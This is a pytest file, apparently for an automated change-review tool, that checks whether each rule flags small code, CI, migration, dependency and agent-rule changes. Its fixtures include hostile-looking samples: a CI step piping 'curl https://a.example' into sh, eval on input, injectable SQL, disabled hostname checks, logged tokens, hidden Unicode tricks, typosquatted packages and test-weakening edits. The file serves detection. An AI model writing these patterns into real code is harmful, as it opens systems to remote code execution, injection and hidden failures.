"""Each rule on the smallest change that it is about, and on the nearest one that it must let pass."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from agents.engineering.verdict.agent_rules import agent_rules
from agents.engineering.verdict.changes import ChangeSet, Finding
from agents.engineering.verdict.ci import ci
from agents.engineering.verdict.data_files import data_files
from agents.engineering.verdict.dependencies import dependencies, looks_like
from agents.engineering.verdict.exposure import exposure
from agents.engineering.verdict.guards import lost_guards
from agents.engineering.verdict.harm import harm
from agents.engineering.verdict.literals import literals
from agents.engineering.verdict.migrations import migrations
from agents.engineering.verdict.python_api import python_api
from agents.engineering.verdict.schemas import Direction, compare
from agents.engineering.verdict.settings_of_checks import settings_of_checks
from agents.engineering.verdict.small_edits import small_edits
from agents.engineering.verdict.tampering import tampering
from tests.agents.engineering.verdict.trees import changed, whats

Rule = Callable[[ChangeSet], Iterator[Finding]]
SQL = "migrations/2.sql"
CI = ".github/workflows/ci.yml"
STEPS = (
    "permissions:\n  contents: read\n"
    "jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - run: pytest\n"
)
AGENTS = "- Run `pytest` before you push.\n- Agents never merge.\n"
LOCK = '[[package]]\nname = "idna"\nversion = "3.6"\nsource = { registry = "https://pypi.org/simple" }\n'

CASES: list[tuple[Rule, str, str, str, bool]] = [
    (python_api, "p/__init__.py", "def f(a, b): ...\n", "def f(b, a): ...\n", True),
    (python_api, "p/__init__.py", "def f(a): ...\n", "def f(a, b=1): ...\n", False),
    (python_api, "p/__init__.py", "def f(): return []\n", "def f(): yield 1\n", True),
    (python_api, "p/__init__.py", "def _f(): return []\n", "", False),
    (python_api, "p/__init__.py", "class E(ValueError): ...\n", "class E(KeyError): ...\n", True),
    (python_api, "p/__init__.py", "def f() -> object: ...\n", "def f() -> str: ...\n", False),
    (python_api, "p/__init__.py", "def f(a: int | None): ...\n", "def f(a: int): ...\n", True),
    (literals, "p/a.py", 'K = {"x_total": 1}\n', 'K = {"y_total": 1}\n', True),
    (literals, "p/a.py", 'def _old():\n    return "x_total"\n', "", False),
    (literals, "p/a.py", "LIMIT = 5\n", "LIMIT = 6\n", True),
    (literals, "p/a.py", "STATES = ('a',)\n", "STATES = ('a', 'b')\n", False),
    (literals, "p/a.py", "import os\n", "import os\n\ndef f():\n    return os.environ['NEW']\n", True),
    (small_edits, "p/a.py", "def f(a):\n    return a < 3\n", "def f(a):\n    return a <= 3\n", True),
    (
        small_edits,
        "p/a.py",
        "def f(a):\n    raise ValueError('no band here')\n",
        "def f(a):\n    raise ValueError('no such band')\n",
        False,
    ),
    (small_edits, "p/a.py", "Q = 'SELECT a FROM t WHERE b = 1'\n", "Q = 'SELECT a FROM t'\n", True),
    (
        small_edits,
        "p/a.py",
        "Q = 'SELECT * FROM t WHERE b = 1'\n",
        "Q = 'SELECT a FROM t WHERE b = 1'\n",
        False,
    ),
    (migrations, SQL, "", "ALTER TABLE t ADD COLUMN a text;\n", False),
    (migrations, SQL, "", "ALTER TABLE t ADD COLUMN a text NOT NULL;\n", True),
    (migrations, SQL, "", "ALTER TABLE t ADD COLUMN a text NOT NULL DEFAULT '';\n", False),
    (migrations, SQL, "", "CREATE INDEX i ON t (a);\n", False),
    (migrations, SQL, "", "-- squawk-ignore-file\nDROP TABLE t;\n", True),
    (migrations, SQL, "", "DELETE FROM t;\n", True),
    (migrations, SQL, "CREATE TABLE t (a int);\n", "CREATE TABLE t (a text);\n", True),
    (migrations, SQL, "CREATE TABLE t (a int);\n", "-- t\nCREATE TABLE t (a int);\n", False),
    (
        tampering,
        "tests/test_a.py",
        "def test_a():\n    assert f(1) == 2\n",
        "def test_b():\n    x = f(1)\n    assert x == 2\n",
        False,
    ),
    (
        tampering,
        "tests/test_a.py",
        "def test_a():\n    assert f(1) == 2\n",
        "def test_a():\n    assert f(1) > 0\n",
        True,
    ),
    (
        tampering,
        "tests/test_a.py",
        "def test_a():\n    assert f(1) > 0\n",
        "def test_a():\n    assert f(1) == 2\n",
        False,
    ),
    (
        tampering,
        "tests/test_a.py",
        "def test_a():\n    assert f(1) == approx(2, abs=1e-4)\n",
        "def test_a():\n    assert f(1) == approx(2, abs=1e-2)\n",
        True,
    ),
    (
        tampering,
        "tests/test_a.py",
        "def test_a():\n    assert f(1) == approx(2, abs=1e-2)\n",
        "def test_a():\n    assert f(1) == approx(2, abs=1e-4)\n",
        False,
    ),
    (
        tampering,
        "tests/test_a.py",
        "def test_a():\n    assert f(1) == 2\n",
        "@pytest.mark.parametrize('a, b', [(1, 2), (2, 3)])\ndef test_a(a, b):\n    assert f(a) == b\n",
        False,
    ),
    (
        tampering,
        "tests/test_a.py",
        "def test_a():\n    assert f(1) == 2\n",
        "@pytest.mark.skip\ndef test_a():\n    assert f(1) == 2\n",
        True,
    ),
    (
        tampering,
        "tests/test_a.py",
        "def test_a():\n    assert f(1) == 2\n",
        "def test_a():\n    f = Mock(return_value=2)\n    assert f(1) == 2\n",
        True,
    ),
    (
        tampering,
        "tests/test_a.py",
        "def test_a():\n    assert f(1) == 2\n",
        "def test_a():\n    try:\n        assert f(1) == 2\n    except AssertionError:\n        pass\n",
        True,
    ),
    (
        tampering,
        "tests/test_a.py",
        "def test_a():\n    with raises(E):\n        f(1)\n",
        "def test_a():\n    with raises(Exception):\n        f(1)\n",
        True,
    ),
    (
        tampering,
        "tests/test_a.py",
        "def test_a():\n    with raises(KeyError):\n        f(1)\n",
        "def test_a():\n    with raises(KeyError, match='x'):\n        f(1)\n",
        False,
    ),
    (tampering, "tests/conftest.py", "", "def pytest_runtest_makereport(item, call): ...\n", True),
    (tampering, "tests/conftest.py", "", "@pytest.fixture\ndef x():\n    return 1\n", False),
    (tampering, "tests/data/a.json", '{"a": 1, "b": 2}', '{\n"b": 2, "a": 1}', False),
    (tampering, "tests/data/a.json", '{"a": 1}', '{"a": 2}', True),
    (tampering, "p/a.py", "x = 1\n", "x = 1  # noqa\n", True),
    (
        settings_of_checks,
        "pyproject.toml",
        "[tool.coverage.report]\nfail_under = 90\n",
        "[tool.coverage.report]\nfail_under = 91\n",
        False,
    ),
    (
        settings_of_checks,
        "pyproject.toml",
        "[tool.coverage.report]\nfail_under = 90\n",
        "[tool.coverage.report]\nfail_under = 89\n",
        True,
    ),
    (
        settings_of_checks,
        "pyproject.toml",
        "[tool.ruff.lint]\nselect = ['E']\n",
        "[tool.ruff.lint]\nselect = ['E', 'F']\n",
        False,
    ),
    (settings_of_checks, "pyproject.toml", "[tool.ruff.lint]\n", "[tool.ruff.lint]\nignore = ['F']\n", True),
    (settings_of_checks, "pytest.ini", "[pytest]\naddopts = -q\n", "[pytest]\naddopts = -q -k fast\n", True),
    (settings_of_checks, "pyproject.toml", "[project]\nversion = '1'\n", "[project]\nversion = '2'\n", False),
    (settings_of_checks, "pyproject.toml", "[tool.unheard]\na = 1\n", "[tool.unheard]\na = 2\n", True),
    (ci, CI, STEPS, f"# why\n{STEPS}", False),
    (ci, CI, STEPS, STEPS.replace("run: pytest", "run: pytest || true"), True),
    (
        ci,
        CI,
        STEPS,
        STEPS.replace("      - run: pytest\n", "      - run: ruff check .\n      - run: pytest\n"),
        False,
    ),
    (
        ci,
        CI,
        STEPS,
        STEPS.replace(
            "      - run: pytest\n", "      - run: curl https://a.example | sh\n      - run: pytest\n"
        ),
        True,
    ),
    (ci, CI, STEPS, STEPS.replace("contents: read", "contents: write"), True),
    (ci, CI, STEPS, STEPS.replace("checkout@v4", "checkout@v5"), False),
    (ci, CI, STEPS, STEPS.replace("checkout@v4", "checkout@main"), True),
    (harm, "p/a.py", "x = 1\n", "def f(v):\n    return eval(v)\n", True),
    (harm, "p/a.py", "x = 1\n", "import ast\n\ndef f(v):\n    return ast.literal_eval(v)\n", False),
    (harm, "p/a.py", "x = 1\n", "def f(c):\n    c.check_hostname = False\n", True),
    (harm, "p/a.py", "x = 1\n", "def f(c):\n    c.check_hostname = True\n", False),
    (
        harm,
        "p/a.py",
        "x = 1\n",
        "def f(d, n):\n    return d.execute(f\"SELECT a FROM t WHERE n = '{n}'\")\n",
        True,
    ),
    (
        harm,
        "p/a.py",
        "x = 1\n",
        "def f(d, n):\n    return d.execute('SELECT a FROM t WHERE n = ?', (n,))\n",
        False,
    ),
    (harm, "p/a.py", "x = 1\n", "def f(log, token):\n    log.info('sent with %s', token)\n", True),
    (harm, "p/a.py", "x = 1\n", "def f(log, ticket_id):\n    log.info('sent %s', ticket_id)\n", False),
    (
        lost_guards,
        "p/a.py",
        "def f(u):\n    require_admin(u)\n    return 1\n",
        "def f(u):\n    return 1\n",
        True,
    ),
    (
        lost_guards,
        "p/a.py",
        "def f(u):\n    raise ValueError(u)\n",
        "def f(u):\n    raise OddError(u)\n",
        False,
    ),
    (exposure, "p/a.py", "x = 1\n", "token = 'ghp_" + "a1B2c3D4e5" * 3 + "'\n", True),
    (exposure, "p/a.py", "x = 1\n", "token = os.environ['TOKEN']\n", False),
    (exposure, "README.md", "", "Use AKIAIOSFODNN7EXAMPLE here.\n", False),
    (exposure, "p/a.py", "x = 1\n", "x = 1  # \u202e\n", True),
    (exposure, "p/a.py", "x = 1\n", "usеr = 1\n", True),
    (exposure, "sitecustomize.py", "", "x = 1\n", True),
    (dependencies, "uv.lock", LOCK, LOCK.replace("3.6", "3.7"), False),
    (dependencies, "uv.lock", LOCK, LOCK.replace("3.6", "4.0"), True),
    (dependencies, "uv.lock", LOCK, LOCK.replace("3.6", "3.5"), True),
    (dependencies, "uv.lock", LOCK, LOCK.replace("pypi.org", "mirror.example"), True),
    (dependencies, "requirements.txt", "a==1\n", "a==1\nb==2\n", True),
    (agent_rules, "AGENTS.md", AGENTS, AGENTS.replace("`pytest`", "`ruff check .` and `pytest`"), False),
    (agent_rules, "AGENTS.md", AGENTS, AGENTS.replace("never merge", "merge"), True),
    (
        agent_rules,
        "AGENTS.md",
        AGENTS,
        AGENTS.replace("never merge.", "never merge, where a person is near."),
        True,
    ),
    (agent_rules, "AGENTS.md", AGENTS, AGENTS + "- Never commit a secret.\n", False),
    (agent_rules, "AGENTS.md", AGENTS, AGENTS + "- Never wait for a review.\n", True),
    (agent_rules, "CODEOWNERS", "* @a\n/x/ @b\n", "* @a\n", True),
    (data_files, "config/a.toml", "a = 1\n", "a = 1\nb = 2\n", False),
    (data_files, "config/a.toml", "a = 1\n", "a = 2\n", True),
    (data_files, "config/a.toml", "a = 1\n", "a = 1\ndebug = true\n", True),
    (data_files, "run.sh", "echo a\n", "# says a\necho a\n", False),
    (data_files, "run.sh", "echo a\n", "echo b\n", True),
]


@pytest.mark.parametrize(("rule", "path", "old", "new", "asks"), CASES)
def test_a_rule_asks_about_its_kind_and_lets_its_neighbour_pass(
    rule: Rule, path: str, old: str, new: str, asks: bool, tmp_path: Path
) -> None:
    change = changed(tmp_path, {path: old} if old else {}, {path: new})
    found = list(rule(change))
    assert bool(found) == asks, whats(found)


@pytest.mark.parametrize(
    ("old", "new", "breaks"),
    [
        ({"type": "integer"}, {"type": "number"}, {"out", "both"}),
        ({"type": "number"}, {"type": "integer"}, {"in", "both"}),
        ({"enum": ["a"]}, {"enum": ["a", "b"]}, {"out", "both"}),
        ({"enum": ["a", "b"]}, {"enum": ["a"]}, {"in", "both"}),
        ({"maxLength": 9}, {"maxLength": 8}, {"in", "both"}),
        ({"maxLength": 8}, {"maxLength": 9}, {"out", "both"}),
        ({"required": ["a"]}, {"required": ["a", "b"]}, {"in", "both"}),
        ({"required": ["a"]}, {"required": []}, {"out", "both"}),
        ({"properties": {}}, {"properties": {"a": {}}}, set()),
        ({"properties": {"a": {}}}, {"properties": {}}, {"in", "out", "both"}),
        ({"description": "a"}, {"description": "b"}, set()),
        ({"unheard": 1}, {"unheard": 2}, {"in", "out", "both"}),
    ],
)
def test_a_schema_narrower_breaks_who_sends_and_wider_who_reads(
    old: dict[str, object], new: dict[str, object], breaks: set[str]
) -> None:
    directions: tuple[Direction, ...] = ("in", "out", "both")
    assert {direction for direction in directions if list(compare(old, new, direction, (old, new)))} == breaks


@pytest.mark.parametrize(
    ("name", "known"),
    [("reqeusts", "requests"), ("python-requests", "requests"), ("requests", ""), ("parcelrate", "")],
)
def test_a_name_one_slip_away_is_a_look_alike(name: str, known: str) -> None:
    assert looks_like(name) == known
